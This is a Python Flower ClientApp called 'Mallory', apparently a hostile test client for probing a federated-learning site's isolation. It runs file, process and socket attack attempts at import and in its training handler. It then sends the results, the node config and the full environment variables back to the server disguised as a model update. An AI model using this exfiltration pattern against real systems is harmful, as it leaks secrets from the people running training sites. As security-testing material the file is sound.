"""Mallory at the site: tries everything at import and in the handler, and sends home what it got.

The report goes where an update would: `{"user": …, "got": {ATTEMPT: VALUE}, "failed": {ATTEMPT:
ERROR}}`.
"""

import json
import os
import tempfile
from pathlib import Path

import numpy as np
from flwr.app import Array, ArrayRecord, ConfigRecord, Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp

from attack.attempts import Report, attack_files, attack_processes, attack_socket, mark

app = ClientApp()

AT_IMPORT = Report()
mark(AT_IMPORT, [tempfile.gettempdir(), Path.cwd(), Path.home()], "import")
attack_processes(AT_IMPORT, reads_only=True)


@app.train()
def train(message: Message, context: Context) -> Message:
    told = json.loads(str(message.content["round"]["told"]))
    report = Report()
    mark(report, told["directories"], "handler")
    attack_files(report, told)
    attack_processes(report, reads_only=told["reads_only"])
    adapter = message.content["adapter"]["adapter"].numpy().tobytes()
    other = message.content["other"]["other"].numpy().tobytes()
    socket = context.node_config.get("trainer") or told["socket"]
    attack_socket(report, Path(str(socket)), adapter, other, told)
    attack_files(report, told)  # after the socket: has anything opened a door?
    whole = {
        "user": os.geteuid(),
        "node_config": dict(context.node_config),
        "environment": dict(os.environ),
        "got": {**{f"import:{k}": v for k, v in AT_IMPORT.got.items()}, **report.got},
        "failed": {**{f"import:{k}": v for k, v in AT_IMPORT.failed.items()}, **report.failed},
    }
    content = np.frombuffer(json.dumps(whole, default=str).encode(), dtype=np.uint8)
    records = {
        "adapter": ArrayRecord({"adapter": Array(content)}),
        "result": MetricRecord({"seconds": 0.0}),
        "site": ConfigRecord({"name": "mallory"}),
    }
    return Message(RecordDict(records), reply_to=message)
